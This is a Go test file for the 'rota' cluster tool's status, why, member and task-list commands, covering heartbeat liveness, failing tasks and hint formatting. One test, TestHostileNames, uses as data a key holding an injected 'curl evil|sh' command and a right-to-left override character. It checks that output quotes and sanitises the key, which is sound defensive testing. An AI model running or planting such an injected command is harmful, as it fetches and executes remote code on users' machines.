package command

import (
	"encoding/json"
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/rota-run/rota/cluster"
	"github.com/rota-run/rota/internal/node"
	"github.com/rota-run/rota/internal/proof/must"
	"github.com/rota-run/rota/internal/protocol/fold"
	"github.com/rota-run/rota/internal/protocol/replica"
	"github.com/rota-run/rota/internal/view"
	"github.com/rota-run/rota/journal"
	"github.com/rota-run/rota/protocol"
	"github.com/rota-run/rota/store"
	"github.com/rota-run/rota/store/file"
)

// written is a cluster that a test has written into a store by hand: members a and b, and what they would have written.
type written struct {
	*place
	st    store.Full
	value cluster.Value
}

func newWritten(t *testing.T, specs map[cluster.JobID]cluster.JobSpec) *written {
	t.Helper()
	w := &written{place: newPlace(t)}
	st, err := file.Open(t.Context(), "store", file.Options{})
	must.Succeed(t, err)
	t.Cleanup(func() { st.Close() })
	w.st = st
	must.Succeed(t, protocol.Claim(t.Context(), st, protocol.Place{Protocol: "replica"}))
	w.say(cluster.PrepareJoin{Member: "a", Heartbeat: "pulse/a/1", Slots: 1})
	w.say(cluster.PrepareJoin{Member: "b", Heartbeat: "pulse/b/1"})
	m, _ := w.value.Member("b")
	w.say(cluster.AcceptJoin{Member: "b", Incarnation: m.Incarnation, By: "a", ByIncarnation: 1})
	for id, spec := range specs {
		w.say(cluster.SubmitJob{Job: id, Spec: spec})
	}
	return w
}

// say writes commands that are to be accepted.
func (w *written) say(commands ...cluster.Command) {
	w.t.Helper()
	results, err := replica.NewClient(w.st).Propose(w.t.Context(), commands...)
	must.Succeed(w.t, err)
	for _, r := range results {
		if !r.Accepted {
			w.t.Fatal(r.Reason)
		}
	}
	w.value, err = fold.Observe(w.t.Context(), w.st, w.value)
	must.Succeed(w.t, err)
}

func (w *written) put(key string, value any) {
	w.t.Helper()
	text, err := json.Marshal(value)
	must.Succeed(w.t, err)
	d, err := w.st.Get(w.t.Context(), key)
	if err != nil {
		d.Version = ""
	}
	must.Succeed(w.t, must.Err(w.st.Put(w.t.Context(), store.Doc{Key: key, Value: text, Version: d.Version})))
}

// beat writes a heartbeat of a member with a TTL of 300 ms, that is so old by its own clock.
func (w *written) beat(member string, age time.Duration) {
	w.t.Helper()
	w.put("pulse/"+member+"/1", map[string]any{"member": member, "at_ms": time.Now().Add(-age).UnixMilli(), "ttl_ms": 1000})
}

func one(spread cluster.Spread) cluster.JobSpec {
	return cluster.JobSpec{Tasks: []cluster.TaskSpec{{Type: "noop", Spread: spread}}}
}

// shows runs a command on the store and compares its exit code and what it prints.
func (w *written) shows(command string, code int, want ...string) {
	w.t.Helper()
	out, errs, got := w.rota(append(strings.Fields(command), "--store", "file:store")...)
	if got != code || !containsAll(out+errs, want) {
		w.t.Errorf("rota %s: exit %d, want %d and %q:\n%s%s", command, got, code, want, out, errs)
	}
}

func TestStatusOfTheDead(t *testing.T) {
	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": one(cluster.SpreadEvery)})
	w.beat("b", time.Hour) // its clock is wrong, or it is dead: nobody renews it
	w.shows("status", exitOK, "members 2 (2 probably dead) · tasks 2: 2 owner silent", "! no member is alive: nothing runs",
		"! gone    a  no heartbeat in the store", "! silent  b  not renewed for", "nobody runs its task", "→ rota member list --store file:store")
	w.shows("member list", exitOK, "HEARTBEAT", "gone", "silent")
	w.shows("task list", exitOK, "x#a   owner silent", "x#b   owner silent")
	w.shows("why x#a", exitOK, "x#a is owner silent on a", "a: no heartbeat in the store")
	w.shows("why x", exitOK, "x is owner silent", "2 partitions: 2 owner silent", "x#a is owner silent on a")
	w.shows("status --check", exitFailed, "rota: members that are probably dead: 2, tasks without a live owner: 2\n", "try: rota status --store file:store")
	out, _, code := w.rota("status", "--check", "-o", "json", "--store", "file:store")
	var r statusReport
	if err := json.Unmarshal([]byte(out), &r); err != nil || code != exitFailed {
		t.Fatalf("exit %d, %v: %s", code, err, out)
	}
	if len(r.Wrong) != 2 || r.Members.Silent != 2 || r.MemberList[0].Heartbeat.State != view.HeartbeatGone || r.TaskList[0].State != view.OwnerSilent {
		t.Errorf("got %+v", r)
	}
}

// TestStatusNamesTheUnguarded: status names the members whose death would cost the others a TTL, and the reason.
func TestStatusNamesTheUnguarded(t *testing.T) {
	w := newWritten(t, nil)
	say := func(member, guardian string) {
		w.put("pulse/"+member+"/1", map[string]any{"member": member, "at_ms": time.Now().Add(time.Hour).UnixMilli(), "ttl_ms": 300, "guardian": guardian})
	}
	say("a", "on")
	say("b", "not needed")
	w.shows("status", exitOK, "members 2 · tasks")
	w.shows("member list", exitOK, "GUARDIAN", "on", "not needed")
	say("b", "none: not supported on this system")
	w.shows("status", exitOK, "members 2 (1 without a guardian: b)")
	w.shows("member list", exitOK, "none: not supported on this system")
}

// TestStatusSaysWhoRenewsSlower: a member that states a longer TTL than usual is counted, and members says which TTL.
func TestStatusSaysWhoRenewsSlower(t *testing.T) {
	w := newWritten(t, nil)
	for _, m := range []string{"a", "b"} {
		doc := map[string]any{"member": m, "at_ms": time.Now().Add(time.Hour).UnixMilli(), "ttl_ms": 10_000}
		if m == "b" {
			doc["ttl_ms"], doc["usual_ttl_ms"] = 20_000, 10_000
		}
		w.put("pulse/"+m+"/1", doc)
	}
	w.shows("status", exitOK, "members 2 (1 with a longer TTL, for renewals are slow)")
	w.shows("member list", exitOK, "TTL 20s in place of 10s")
}

// TestHostileNames: a key that somebody else has chosen is one word of the command that is suggested, and reaches no terminal as it is.
func TestHostileNames(t *testing.T) {
	const key = "a; curl evil|sh \u202e#gpj"
	spec := one(cluster.SpreadPartitioned)
	spec.Tasks[0].Partitions, spec.Tasks[0].Pin = []string{key}, "nobody"
	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": spec})
	w.alive()
	w.shows("status", exitOK, `rota why $'x#a; curl evil|sh \342\200\256#gpj' --store file:store`)
	for _, command := range [][]string{{"status"}, {"status", "-o", "json"}, {"task", "list"}, {"why", "x#" + key}, {"why", "x"}, {"why", "y#" + key}, {"events"}} {
		out, errs, _ := w.rota(append(command, "--store", "file:store")...)
		if strings.Contains(out+errs, "\u202e") {
			t.Errorf("rota %q shows it as it is:\n%s%s", command, out, errs)
		}
	}
}

// Whoever renews its heartbeat lives, whatever its clock says; one look takes a young heartbeat for a sign of life, --check does not.
func TestCheckLooksForASecondHeartbeat(t *testing.T) {
	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": one(cluster.SpreadEvery)})
	stop, stopped := make(chan struct{}), make(chan struct{})
	w.beat("a", time.Hour)
	w.beat("b", -time.Hour)
	go func() {
		defer close(stopped)
		for tick := time.NewTicker(20 * time.Millisecond); ; {
			select {
			case <-stop:
				return
			case <-tick.C:
				w.beat("a", time.Hour)
				w.beat("b", -time.Hour)
			}
		}
	}()
	w.shows("status", exitOK, "members 2 · tasks 2: 2 running")
	w.shows("status --check", exitOK, "ok: 2 members, 2 tasks\n")
	close(stop)
	<-stopped
	w.beat("a", -time.Hour)
	w.shows("status", exitOK, "members 2 · tasks 2: 2 running")
	w.shows("status --check", exitFailed, "members that are probably dead: 2")
}

func TestCheckOfNobody(t *testing.T) {
	p := newPlace(t)
	st, err := file.Open(t.Context(), "store", file.Options{})
	must.Succeed(t, err)
	st.Close()
	if _, errs, code := p.rota("status", "--check", "--store", "file:store"); code != exitFailed || !strings.Contains(errs, "rota: no member\n") {
		t.Errorf("exit %d: %s", code, errs)
	}
	if out, errs, code := p.rota("status", "--store", "file:store"); code != exitOK || !strings.Contains(out, "! there is no cluster here yet   → rota run --store file:store\n") {
		t.Errorf("exit %d: %s%s", code, out, errs)
	}
}

// TestARefusedCopyMakesNoPlace: the next command would take it for a cluster.
func TestARefusedCopyMakesNoPlace(t *testing.T) {
	w := newWritten(t, nil)
	if _, errs, code := w.rota("store", "copy", "file:store", "file:copy"); code != exitFailed || !strings.Contains(errs, "it has members: a, b") {
		t.Errorf("exit %d: %s", code, errs)
	}
	if _, err := os.Stat("copy"); !os.IsNotExist(err) {
		t.Errorf("the target is there: %v", err)
	}
}

// TestJobsCountWhatFilesDefine: not what they defined once.
func TestJobsCountWhatFilesDefine(t *testing.T) {
	spec := one(cluster.SpreadSingle)
	spec.Source = "tasks"
	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": spec, "y": spec})
	w.shows("job list", exitOK, "and 2 tasks that files define")
	if out, _, _ := w.rota("job", "list", "--state", "killed", "--store", "file:store"); strings.Contains(out, "files define") {
		t.Errorf("of killed jobs it counts those that live:\n%s", out)
	}
	must.Succeed(t, must.Err(replica.NewClient(w.st).Propose(t.Context(), cluster.KillJob{Job: "y"})))
	w.shows("job list", exitOK, "and 1 task that files define")
}

// alive keeps heartbeats young for one look.
func (w *written) alive() { w.beat("a", -time.Hour); w.beat("b", -time.Hour) }

func TestFailingTasksDoNotLookHealthy(t *testing.T) {
	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": one(cluster.SpreadEvery), "y": one(cluster.SpreadEvery)})
	w.alive()
	token := func(id string) cluster.Token { p, _ := w.value.Partition(cluster.PartitionID(id)); return p.Token }
	w.put(node.FailingPrefix+"a", node.Failing{Member: "a", Failing: 1, BackingOff: 1, Runs: []node.FailingRun{
		{Partition: "x#a", Token: token("x#a"), State: node.StateFailing, Rounds: 7, Failures: 7, Message: "connection refused"},
		{Partition: "y#a", Token: token("y#a"), State: node.StateBackingOff, Failures: 2, Message: "no such file"},
	}})
	w.shows("status", exitOK, "tasks 4: 2 running, 1 failing, 1 backing off", "! failing      x#a  7 of 7 rounds, last: connection refused  → rota why x#a --store file:store",
		"! backing off  y#a  failed 2 times, last: no such file")
	w.shows("task list --state failing", exitOK, "x#a", "7 of 7 rounds, last: connection refused")
	w.shows("task list --state backing-off", exitOK, "y#a", "failed 2 times, last: no such file")
	w.shows("why x#a", exitOK, "x#a is failing on a", "7 of 7 rounds, last: connection refused")
	w.shows("why x", exitOK, "x is failing", "2 partitions: 1 running, 1 failing", "x#a is failing on a: 7 of 7 rounds")
}

// TestWhyKnowsTheRounds of a task that is well, where they are kept.
func TestWhyKnowsTheRounds(t *testing.T) {
	spec := one(cluster.SpreadSingle)
	spec.Tasks[0].Definition = []byte(`{"every_ms":3600000}`)
	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"x": spec})
	w.alive()
	last := time.Now().Add(-10 * time.Minute)
	doc := store.Doc{Key: "position/x", Value: fmt.Appendf(nil, `{"partition":"x","token":1,"round_ms":%d}`, last.UnixMilli())}
	must.Succeed(t, must.Err(w.st.Put(t.Context(), doc)))
	w.shows("why x", exitOK, "x is running on a", "rounds  last at "+clock(last.UnixMilli(), time.Now())+", next at "+clock(last.Add(time.Hour).UnixMilli(), time.Now()))
	w.shows("why x -o json", exitOK, fmt.Sprintf(`"last_round_ms":%d,"next_round_ms":%d`, last.UnixMilli(), last.Add(time.Hour).UnixMilli()))
}

func TestWhyOfJobsAndFiles(t *testing.T) {
	two := cluster.JobSpec{Tasks: []cluster.TaskSpec{{Name: "read", Type: "noop", Spread: cluster.SpreadPool, MaxAttempts: 1}, {Name: "write", Type: "noop"}}}
	w := newWritten(t, map[cluster.JobID]cluster.JobSpec{"etl": two, "x": one(cluster.SpreadEvery)})
	w.alive()
	w.shows("why etl", exitOK, "etl is running", "task    read running", "task    write running")
	var p cluster.Partition
	for q := range w.value.Partitions() {
		if q.Slot != 0 {
			p = q
		}
	}
	if _, err := replica.NewClient(w.st).Propose(t.Context(), cluster.FinishPartition{
		Partition: p.ID, Token: p.Token, Outcome: cluster.OutcomeFailed, Message: "disk full",
	}); err != nil {
		t.Fatal(err)
	}
	w.shows("why etl", exitOK, "etl is failed", "disk full", "next    mend what fails, then submit it again")
	w.shows("why etl/read", exitOK, "etl/read is failed", "disk full")
	bad := journal.Record{Kind: journal.Malformed, Partition: "never", Message: "unknown field", Storage: &journal.Storage{Path: "tasks/never.yaml", Line: 2, Column: 1, Lines: []string{"   2 │ evry: 1s"}}}
	must.Succeed(t, journal.NewDocs(w.st, "a", 0).Append(t.Context(), bad))
	w.shows("why never", exitOK, "never is malformed", "tasks/never.yaml:2:1  unknown field", "no version of it has ever run", "2 │ evry: 1s")
	bad.Partition, bad.Storage = "x", &journal.Storage{Path: "tasks/x.yaml", Line: 1, Column: 1}
	must.Succeed(t, journal.NewDocs(w.st, "a", 0).Append(t.Context(), bad))
	w.shows("why x", exitOK, "x has a malformed file; its last good version is running", "file    tasks/x.yaml:1:1  unknown field", "next    mend the file; the last good version keeps running")
	w.shows("why nothing", exitFailed, `there is no task "nothing"`, "try: rota task list --all --store file:store")
	w.status(map[string]string{"failed": "etl", "malformed": "never"})
}

// status follows every hint of status: none of them answers that something is gone.
func (w *written) status(want map[string]string) {
	w.t.Helper()
	out, _, _ := w.rota("status", "--store", "file:store")
	for line := range strings.Lines(out) {
		_, hint, ok := strings.Cut(line, "→ rota ")
		if !ok {
			continue
		}
		answer, errs, code := w.rota(strings.Fields(hint)...)
		if code != exitOK || strings.Contains(answer, "gone") {
			w.t.Errorf("%sthe hint leads to exit %d, %s%s", line, code, answer, errs)
		}
		for state, name := range want {
			if strings.Contains(line, "! "+state) && strings.Contains(hint, name) {
				delete(want, state)
			}
		}
	}
	if len(want) > 0 {
		w.t.Errorf("not listed: %s in\n%s", fmt.Sprint(want), out)
	}
}

// Hints name the store only if the user did, in a form that can be copied.
func TestHintsNameTheStore(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name  string
		named bool
		want  string
	}{
		{"file:d", true, "rota why x --store file:d"},
		{"file:d", false, "rota why x"},
		{"etcd://a/b?user=u&ca=x", true, "rota why x --store 'etcd://a/b?user=u&ca=x'"},
	} {
		o := &observer{name: c.name, named: c.named}
		if got := o.hint("rota why x"); got != c.want {
			t.Errorf("got %s, want %s", got, c.want)
		}
	}
	o := &observer{name: "file:d", named: true}
	if got := o.try("change its definition or rota task retry x"); got != "change its definition or rota task retry x --store file:d" {
		t.Errorf("got %s", got)
	}
	if got := o.try("add slots"); got != "add slots" {
		t.Errorf("got %s", got)
	}
}
